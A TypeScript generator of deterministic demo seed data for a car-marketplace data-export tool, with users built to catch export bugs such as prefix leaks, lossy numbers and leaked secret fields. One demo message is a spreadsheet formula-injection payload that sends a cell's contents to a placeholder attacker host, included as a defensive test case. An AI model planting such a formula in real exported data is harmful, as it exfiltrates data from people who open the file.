// The built-in demo data for config/data-map.json: a handful of marketplace users with records in every
// table and bucket the map names. Generated rather than stored so it stays small in the repo, and fully
// deterministic (own PRNG, fixed clock) so a demo archive is the same on every run and every machine.
//
// The users are chosen to catch mistakes, not just to fill tables:
// - u-1001 (the demo user) holds every DynamoDB value type and the awkward text an exporter must keep
//   exact or defuse: 38-digit and negative numbers, binary, sets, nesting, unicode, "", formulas, CSV
//   metacharacters; and fields (passwordHash, cardFingerprint…) that must never leave.
// - u-10010 shares a prefix with u-1001 in every id and S3 key, so a begins_with/prefix bug leaks it.
// - u-heavy has enough usage events that a DynamoDB Query returns several 1 MB pages.
import { crc32, deflateSync } from 'node:zlib';
import type { WireItem, WireValue } from '../lambdas/core/values/attribute-values.ts';
import type { Seed } from './seed.ts';

export const DEMO_USER_ID = 'u-1001';
export const DEMO_USERS = ['u-1001', 'u-1002', 'u-1003', 'u-10010', 'u-heavy'] as const;

export const DEMO_BUCKET = 'marketplace-uploads';
/** Enough ~350-byte events for u-heavy that one Query page (1 MB) cannot hold them. */
export const HEAVY_USAGE_EVENTS = 6_000;

const BASE_TIME = Date.parse('2026-06-01T00:00:00.000Z');
const MINUTE = 60_000;

// ---- small helpers -------------------------------------------------------------------------------

const S = (text: string): WireValue => ({ S: text });
const N = (value: number | string): WireValue => ({ N: String(value) });
const BOOL = (value: boolean): WireValue => ({ BOOL: value });
const M = (fields: WireItem): WireValue => ({ M: fields });
const L = (...values: WireValue[]): WireValue => ({ L: values });
const money = (amount: number): WireValue => N(amount.toFixed(2));

/** `items[index]`, for lists the code itself built, where a miss is a bug. */
function at<T>(items: readonly T[], index: number): T {
  const item = items[index];
  if (item === undefined) throw new Error(`no item ${index} in a list of ${items.length}`);
  return item;
}

/** ISO time `minutes` before the fixed base time. */
const ago = (minutes: number): string => new Date(BASE_TIME - Math.round(minutes * MINUTE)).toISOString();

/** mulberry32: a tiny 32-bit PRNG; good enough for demo data and identical on every platform. */
function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

interface Random {
  float(min: number, max: number): number;
  int(min: number, max: number): number;
  pick<T>(items: readonly T[]): T;
  chars(alphabet: string, length: number): string;
}

/** One generator per user (seeded by the id), so adding a user never changes another user's data. */
function randomFor(userId: string): Random {
  let hash = 0x811c9dc5; // FNV-1a of the id
  for (const ch of userId) hash = Math.imul(hash ^ (ch.codePointAt(0) ?? 0), 0x01000193);
  const next = mulberry32(hash);
  const random: Random = {
    float: (min, max) => min + next() * (max - min),
    int: (min, max) => Math.floor(random.float(min, max + 1)),
    pick: (items) => at(items, Math.floor(next() * items.length)),
    chars: (alphabet, length) => Array.from({ length }, () => random.pick([...alphabet])).join(''),
  };
  return random;
}

/** A real (valid) PNG of one solid colour, so demo attachments and avatars open in any viewer. */
function solidPng(size: number, [r, g, b]: readonly [number, number, number]): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const framed = Buffer.alloc(body.length + 8);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), body.length + 4);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const row = Buffer.from([0, ...Array.from({ length: size }, () => [r, g, b]).flat()]); // filter byte 0 + pixels
  const pixels = deflateSync(Buffer.concat(Array.from({ length: size }, () => row)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

// ---- the marketplace's catalogue -----------------------------------------------------------------

/** World manufacturer identifiers make the VINs look like the make they claim to be. */
const MODELS = [
  { make: 'Toyota', model: 'RAV4', trim: 'XLE', wmi: '2T3', price: 31_450 },
  { make: 'Honda', model: 'Civic', trim: 'Sport', wmi: '2HG', price: 24_995 },
  { make: 'Ford', model: 'F-150', trim: 'Lariat', wmi: '1FT', price: 52_780 },
  { make: 'Chevrolet', model: 'Equinox', trim: 'LT', wmi: '3GN', price: 27_300 },
  { make: 'Subaru', model: 'Outback', trim: 'Onyx Edition', wmi: '4S4', price: 36_120 },
  { make: 'Tesla', model: 'Model 3', trim: 'Long Range', wmi: '5YJ', price: 39_990 },
  { make: 'BMW', model: 'X3', trim: 'xDrive30i', wmi: '5UX', price: 47_650 },
  { make: 'Hyundai', model: 'Tucson', trim: 'SEL', wmi: 'KM8', price: 29_875 },
] as const;
type Vehicle = (typeof MODELS)[number] & { vin: string; year: number; listPrice: number; dealer: Dealer };

/** Franchise dealers sell their make; independents (no `make`) sell anything, used Teslas included. */
const DEALERS: readonly { id: string; name: string; city: string; make?: string }[] = [
  { id: 'dlr-0042', name: 'Bayside Toyota of Oakland', city: 'Oakland, CA', make: 'Toyota' },
  { id: 'dlr-0107', name: 'Lone Star Ford', city: 'Austin, TX', make: 'Ford' },
  { id: 'dlr-0188', name: 'Summit Subaru', city: 'Denver, CO', make: 'Subaru' },
  { id: 'dlr-0231', name: 'Capital City Chevrolet', city: 'Austin, TX', make: 'Chevrolet' },
  { id: 'dlr-0266', name: 'Evergreen Honda', city: 'Seattle, WA', make: 'Honda' },
  { id: 'dlr-0409', name: 'Desert Sun Hyundai', city: 'Phoenix, AZ', make: 'Hyundai' },
  { id: 'dlr-0452', name: 'Lakeshore BMW', city: 'Chicago, IL', make: 'BMW' },
  { id: 'dlr-0315', name: 'Pacific Coast Motors', city: 'Oakland, CA' },
  { id: 'dlr-0520', name: 'Windy City Auto Exchange', city: 'Chicago, IL' },
];
type Dealer = (typeof DEALERS)[number];

const CITIES = [
  { city: 'Austin', region: 'TX', postalPrefix: '787' },
  { city: 'Denver', region: 'CO', postalPrefix: '802' },
  { city: 'Seattle', region: 'WA', postalPrefix: '981' },
  { city: 'Oakland', region: 'CA', postalPrefix: '946' },
  { city: 'Chicago', region: 'IL', postalPrefix: '606' },
  { city: 'Phoenix', region: 'AZ', postalPrefix: '850' },
] as const;

const BROWSERS = [
  { browser: 'Chrome', version: '137.0', os: 'Windows 11', deviceType: 'desktop' },
  { browser: 'Safari', version: '18.5', os: 'iOS 18.5', deviceType: 'mobile' },
  { browser: 'Firefox', version: '139.0', os: 'Ubuntu 24.04', deviceType: 'desktop' },
  { browser: 'Edge', version: '137.0', os: 'Windows 10', deviceType: 'desktop' },
  { browser: 'Chrome', version: '137.0', os: 'Android 15', deviceType: 'mobile' },
] as const;

const REFERRERS = ['https://www.google.com/', 'https://www.bing.com/', 'https://www.facebook.com/', 'direct', 'https://mail.example.net/'];
const EVENT_TYPES = ['vehicle_view', 'vehicle_view', 'search', 'click', 'click', 'dealer_contact', 'photo_gallery_open'] as const;

const VIN_CHARS = 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789'; // VINs never use I, O or Q

function vehicle(random: Random): Vehicle {
  const base = random.pick(MODELS);
  const year = random.int(2018, 2025);
  // A used car loses roughly 8% a year; cents make prices non-integer numbers.
  const listPrice = Math.round(base.price * (1 - 0.08 * (2026 - year)) * random.float(0.93, 1.07) * 100) / 100;
  // Manufacturer (3) + descriptor (5) + check digit + model-year code (2010 = A, skipping I/O/Q) + plant + serial.
  const vin = `${base.wmi}${random.chars(VIN_CHARS, 5)}${random.chars('0123456789X', 1)}${at([...VIN_CHARS], year - 2010)}${random.chars(VIN_CHARS, 1)}${random.chars('0123456789', 6)}`;
  const dealer = random.pick(DEALERS.filter((d) => d.make === undefined || d.make === base.make));
  return { ...base, vin, year, listPrice, dealer };
}

// ---- the users -----------------------------------------------------------------------------------

interface Person {
  id: string;
  name: string;
  email: string;
  phone: string;
  company?: string;
  home: (typeof CITIES)[number];
}

const PEOPLE: readonly Person[] = [
  { id: 'u-1001', name: 'Ana Ruiz', email: 'ana.ruiz@example.com', phone: '+1-512-555-0148', company: 'Ruiz Landscaping LLC', home: CITIES[0] },
  { id: 'u-1002', name: 'Marcus Chen', email: 'marcus.chen@example.org', phone: '+1-303-555-0191', home: CITIES[1] },
  { id: 'u-1003', name: 'Priya Natarajan', email: 'priya.n@example.net', phone: '+1-206-555-0123', company: 'Cascade Robotics', home: CITIES[2] },
  // Same first name and an id that starts with "u-1001": the export of u-1001 must hold nothing of hers.
  { id: 'u-10010', name: 'Ana Ruiz-Lopez', email: 'ana.ruizlopez@example.com', phone: '+1-510-555-0177', home: CITIES[3] },
  { id: 'u-heavy', name: 'Dale Hoffman', email: 'dale.hoffman@example.com', phone: '+1-312-555-0110', company: 'Hoffman Fleet Services', home: CITIES[4] },
];

/** Everything exact export must survive, on the demo user's account record. */
function demoUserExtras(): WireItem {
  return {
    rewardsBalance: N('12345678901234567890.123456789012345678'), // 38 significant digits: a double keeps ~17
    creditBalance: N('-42.75'), // a refund owed; CSV must keep the sign without treating "-" as a formula
    avatarThumbnail: { B: solidPng(2, [200, 80, 40]).toString('base64') },
    preferredMakes: { SS: ['Subaru', 'Toyota', 'Tesla'] },
    favoriteModelYears: { NS: ['2019', '2021', '2023'] },
    mailingAddress: M({ street: S('1200 Barton Springs Rd, Apt 4'), city: S('Austin'), state: S('TX'), zip: S('78704') }),
    linkedAccounts: L(
      M({ provider: S('google'), linkedAt: S(ago(400 * 24 * 60)), scopes: { SS: ['email', 'profile'] } }),
      M({ provider: S('apple'), linkedAt: S(ago(90 * 24 * 60)), scopes: L() }),
      S('legacy-sso'),
      { NULL: true },
    ),
    bio: S('Größe ✓ 日本語 — looking for a family wagon 🚗'),
    nickname: S(''),
    middleName: { NULL: true },
  };
}

/** Messages the demo user wrote: text that breaks naive CSV and spreadsheet exports. */
const DEMO_MESSAGES = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"Claim your $500 rebate")',
  'Hi, is the "Onyx Edition" still available?\nI can come by Saturday, 10am, if so.',
  'Price, as listed, is $36,120.00 — does that include the "dealer prep" fee?',
  '+1 for the towing package; also: Größe ✓ 日本語',
  '@sales please send the Carfax report',
];
const OTHER_MESSAGES = [
  'Is this vehicle still available?',
  'What is the out-the-door price including taxes and fees?',
  'Can I schedule a test drive this weekend?',
  'Does it have a clean title and service records?',
];
const DEALER_REPLIES = [
  'Yes, it is still on the lot. When would you like to come in?',
  'I have attached the window sticker. Let me know if you have questions.',
  'We can hold it until Saturday with a refundable deposit.',
];

type Tables = Record<string, WireItem[]>;

function addUser(person: Person, tables: Tables, objects: Seed['objects']): void {
  const random = randomFor(person.id);
  const isDemo = person.id === DEMO_USER_ID;
  const userId = S(person.id);
  const add = (table: string, ...items: WireItem[]): void => {
    (tables[table] ??= []).push(...items);
  };
  // Sort keys are times; spacing them by index keeps them unique per user while jitter keeps them real.
  const spaced = (index: number, stepMinutes: number): string => ago((index + 1) * stepMinutes + random.float(0, stepMinutes / 2));
  const garage = Array.from({ length: 4 }, () => vehicle(random));
  const car = (i: number): Vehicle => at(garage, i % garage.length);

  add('Users', {
    userId,
    email: S(person.email),
    name: S(person.name),
    phone: S(person.phone),
    company: person.company ? S(person.company) : { NULL: true },
    createdAt: S(ago(random.int(200, 900) * 24 * 60)),
    marketingOptIn: BOOL(random.float(0, 1) < 0.5),
    status: S('active'),
    // Secrets the account table holds for sign-in; the data map excludes them.
    passwordHash: S(`$argon2id$v=19$m=65536,t=3,p=4$${random.chars(VIN_CHARS.toLowerCase(), 22)}$${random.chars(VIN_CHARS, 43)}`),
    mfaSecret: S(random.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 32)),
    ...(isDemo ? demoUserExtras() : {}),
  });

  add(
    'PaymentMethods',
    ...[0, 1].map((i): WireItem => {
      const brand = random.pick(['visa', 'mastercard', 'amex', 'discover']);
      return {
        userId,
        methodId: S(`pm-${person.id}-${i + 1}`),
        brand: S(brand),
        last4: S(random.chars('0123456789', 4)),
        expMonth: N(random.int(1, 12)),
        expYear: N(random.int(2026, 2031)),
        billingAddress: M({
          line1: S(`${random.int(100, 9999)} Main St`),
          city: S(person.home.city),
          state: S(person.home.region),
          postalCode: S(`${person.home.postalPrefix}${random.chars('0123456789', 2)}`),
          country: S('US'),
        }),
        isDefault: BOOL(i === 0),
        addedAt: S(spaced(i, 60 * 24 * 30)),
        // Processor-side data the allow-list keeps out of every export.
        cardFingerprint: S(random.chars('0123456789abcdef', 32)),
        processorToken: S(`tok_${random.chars('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghjkmnpqrstuvwxyz0123456789', 24)}`),
        panEncrypted: { B: Buffer.from(random.chars('0123456789abcdef', 48), 'hex').toString('base64') },
        riskScore: N(random.float(0, 1).toFixed(4)),
      };
    }),
  );

  const pk = S(`USER#${person.id}`);
  add(
    'UserProfiles',
    { pk, sk: S('PREF#display'), units: S('imperial'), currency: S('USD'), theme: S(random.pick(['light', 'dark', 'system'])), language: S(isDemo ? 'es-US' : 'en-US') },
    { pk, sk: S('PREF#notifications'), priceDropAlerts: BOOL(true), newListingDigest: S(random.pick(['daily', 'weekly', 'off'])), channels: { SS: ['email', 'push'] } },
    { pk, sk: S('PREF#search'), defaultRadiusMiles: N(random.pick([25, 50, 100, 250])), homePostalPrefix: S(person.home.postalPrefix), sort: S('price_asc') },
    ...[0, 1].map((i): WireItem => {
      const v = car(i);
      return {
        pk,
        sk: S(`SEARCH#${spaced(i, 60 * 24 * 7)}`),
        name: S(`${v.make} ${v.model} under $${Math.ceil(v.listPrice / 1000)}k`),
        filters: M({
          make: S(v.make),
          model: S(v.model),
          yearMin: N(v.year - 2),
          maxPrice: N(Math.ceil(v.listPrice / 1000) * 1000),
          radiusMiles: N(100),
          bodyStyles: L(S('suv'), S('wagon')),
        }),
        alertsEnabled: BOOL(i === 0),
      };
    }),
    ...[0, 1, 2].map((i): WireItem => {
      const v = car(i);
      return {
        pk,
        sk: S(`SAVED#${v.vin}`),
        vin: S(v.vin),
        year: N(v.year),
        make: S(v.make),
        model: S(v.model),
        trim: S(v.trim),
        priceWhenSaved: money(v.listPrice),
        dealerName: S(v.dealer.name),
        savedAt: S(spaced(i, 60 * 24 * 3)),
      };
    }),
  );

  const bodies = isDemo ? DEMO_MESSAGES : OTHER_MESSAGES;
  add(
    'Messages',
    ...bodies.flatMap((body, i): WireItem[] => {
      const v = car(i);
      // Ten hours apart, each answered within a little over two hours: sort keys never collide.
      const minutes = (i + 1) * 600 + random.float(0, 300);
      const sent = ago(minutes);
      const replied = ago(minutes - random.int(17, 137));
      const common = { userId, threadId: S(`th-${person.id}-${v.vin.slice(-6)}`), vin: S(v.vin), dealerId: S(v.dealer.id), dealerName: S(v.dealer.name) };
      return [
        { ...common, sk: S(`MSG#${sent}`), direction: S('sent'), body: S(body), sentAt: S(sent), read: BOOL(true) },
        { ...common, sk: S(`MSG#${replied}`), direction: S('received'), body: S(random.pick(DEALER_REPLIES)), sentAt: S(replied), read: BOOL(i > 0) },
      ];
    }),
  );

  add('SupportTickets', {
    userId,
    ticketId: S(`T-${random.int(40_000, 49_999)}`),
    subject: S(isDemo ? "Dealer listed the wrong mileage, and the photos don't match" : 'Cannot save a search'),
    status: S(random.pick(['open', 'pending', 'resolved'])),
    priority: S('normal'),
    channel: S(random.pick(['web', 'email', 'chat'])),
    createdAt: S(spaced(3, 60 * 24)),
    updatedAt: S(spaced(1, 60 * 24)),
    tags: { SS: ['listing-accuracy', 'dealer'] },
  });

  add(
    'Feedback',
    ...[0, 1].map((i): WireItem => ({
      userId,
      submittedAt: S(spaced(i, 60 * 24 * 10)),
      rating: N(random.int(3, 5)),
      npsScore: N(random.int(6, 10)),
      page: S(random.pick(['/search', '/inventory', '/saved'])),
      comment: S(
        i === 0 && isDemo
          ? 'Love the map view, but filters reset when I go back — please fix!'
          : random.pick(['Great selection.', 'Search is fast.', 'Would like more photos per listing.']),
      ),
    })),
  );

  // Usage events: the table is keyed by eventId and read per user through the byUser index.
  const eventCount = person.id === 'u-heavy' ? HEAVY_USAGE_EVENTS : 24;
  const sessions = Array.from({ length: Math.max(3, Math.ceil(eventCount / 40)) }, (_, i) => `s-${person.id}-${String(i).padStart(5, '0')}`);
  add(
    'UsageEvents',
    ...Array.from({ length: eventCount }, (_, i): WireItem => {
      const v = i % 3 === 0 ? vehicle(random) : car(i); // mostly the cars the user keeps coming back to
      const type = random.pick(EVENT_TYPES);
      const slug = `${v.year}-${v.make}-${v.model}-${v.trim}`.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-');
      const page = type === 'search' ? `/search?make=${encodeURIComponent(v.make)}&model=${encodeURIComponent(v.model)}&radius=50&sort=price_asc` : `/inventory/${slug}/${v.vin}`;
      return {
        eventId: S(`ev-${person.id}-${String(i).padStart(6, '0')}`),
        userId,
        occurredAt: S(spaced(i, 7)),
        type: S(type),
        page: S(page),
        pageTitle: S(
          type === 'search'
            ? `Used ${v.make} ${v.model} for sale near ${person.home.city}, ${person.home.region} | Cartropic`
            : `${v.year} ${v.make} ${v.model} ${v.trim} for sale in ${v.dealer.city} | Cartropic`,
        ),
        vin: S(v.vin),
        dealerId: S(v.dealer.id),
        listingPrice: money(v.listPrice),
        durationMs: N(random.int(200, 180_000)),
        referrer: S(random.pick(REFERRERS)),
        sessionId: S(random.pick(sessions)),
        appVersion: S('web-4.18.2'),
      };
    }),
  );

  add(
    'SearchQueries',
    ...[0, 1, 2].map((i): WireItem => {
      const v = car(i);
      return {
        userId,
        searchedAt: S(spaced(i, 60 * 11)),
        query: S(i === 2 && isDemo ? 'outback, "onyx" OR wilderness' : `${v.year} ${v.make} ${v.model}`),
        filters: M({ maxPrice: N(Math.ceil(v.listPrice / 5000) * 5000), postalPrefix: S(person.home.postalPrefix) }),
        resultCount: N(random.int(0, 420)),
      };
    }),
  );

  add(
    'DeviceSessions',
    ...[0, 1].map((i): WireItem => {
      const b = random.pick(BROWSERS);
      return {
        userId,
        sessionId: S(at(sessions, i)),
        browser: S(b.browser),
        browserVersion: S(b.version),
        os: S(b.os),
        deviceType: S(b.deviceType),
        ipAddress: S(i === 1 ? `2001:db8:${random.int(1, 0xfff).toString(16)}::${random.int(1, 0xfff).toString(16)}` : `203.0.113.${random.int(1, 254)}`),
        firstSeenAt: S(spaced(i * 2 + 1, 60 * 24 * 4)),
        lastSeenAt: S(spaced(i * 2, 60 * 24 * 4)),
      };
    }),
  );

  // Location is coarse by design: city, region, country and a postal prefix — nothing more precise.
  add(
    'CoarseLocations',
    ...[person.home, random.pick(CITIES)].map((place, i): WireItem => ({
      userId,
      observedAt: S(spaced(i, 60 * 24 * 6)),
      city: S(place.city),
      region: S(place.region),
      country: S('US'),
      postalPrefix: S(place.postalPrefix),
    })),
  );

  add(
    'ClientErrorLogs',
    {
      userId,
      loggedAt: S(spaced(0, 60 * 13)),
      level: S('error'),
      code: S('IMG_LOAD_FAILED'),
      message: S(`Failed to load listing photo 4 of 12 for ${car(0).vin}`),
      page: S(`/inventory/${car(0).vin}`),
      appVersion: S('web-4.18.2'),
    },
    {
      userId,
      loggedAt: S(spaced(1, 60 * 13)),
      level: S('warn'),
      code: S('UNCAUGHT_EXCEPTION'),
      message: S("TypeError: Cannot read properties of undefined (reading 'price')\n    at ListingCard (listing-card.tsx:88:17)"),
      page: S('/saved'),
      appVersion: S('web-4.18.1'),
    },
  );

  add(
    'ResponseTimings',
    ...[0, 1, 2].map((i): WireItem => {
      const endpoint = random.pick(['GET /api/search', 'GET /api/listings/{vin}', 'POST /api/messages', 'GET /api/saved']);
      return {
        userId,
        measuredAt: S(spaced(i, 60 * 3)),
        endpoint: S(endpoint),
        statusCode: N(random.pick([200, 200, 200, 304, 502])),
        durationMs: N(random.float(35, 2400).toFixed(3)),
        timeToFirstByteMs: N(random.float(10, 400).toFixed(1)),
        region: S('us-east-1'),
      };
    }),
  );

  // Attachments: a photo and a document per user; the demo user adds a nested folder and a name with
  // spaces and unicode, which the archive must turn into safe ZIP paths without losing them.
  const prefix = `users/${person.id}/attachments/`;
  const text = (body: string): string => Buffer.from(body, 'utf8').toString('base64');
  objects.push(
    { bucket: DEMO_BUCKET, key: `${prefix}${car(0).vin}-front.png`, base64: solidPng(8, [random.int(0, 255), random.int(0, 255), random.int(0, 255)]).toString('base64') },
    {
      bucket: DEMO_BUCKET,
      key: `${prefix}trade-in-${person.id}.txt`,
      base64: text(`Trade-in details for ${person.name}\nVehicle: ${car(1).year} ${car(1).make} ${car(1).model}\nMileage: ${random.int(12_000, 98_000)}\n`),
    },
  );
  if (isDemo) {
    objects.push(
      { bucket: DEMO_BUCKET, key: `${prefix}trade-in/photos/2019 Subaru rear.png`, base64: solidPng(4, [30, 60, 120]).toString('base64') },
      { bucket: DEMO_BUCKET, key: `${prefix}Préstamo – carta de aprobación ✓.txt`, base64: text('Carta de pre-aprobación: hasta $38,000 a 60 meses.\nGröße ✓ 日本語\n') },
    );
  }
}

/** The demo seed: every table and object the demo data map reads, for every demo user. */
export function buildDemoSeed(): Seed {
  const tables: Tables = {};
  const objects: Seed['objects'] = [];
  for (const person of PEOPLE) addUser(person, tables, objects);
  return {
    tables,
    schemas: {
      // Read through an index, so its own key must be declared (the data map only names the index's keys).
      UsageEvents: { partitionKey: 'eventId', indexes: { byUser: { partitionKey: 'userId', sortKey: 'occurredAt' } } },
      // One table behind three sources (preferences, saved searches, saved vehicles); declared so its key
      // does not depend on which of them happens to come first in the data map.
      UserProfiles: { partitionKey: 'pk', sortKey: 'sk' },
    },
    objects,
  };
}
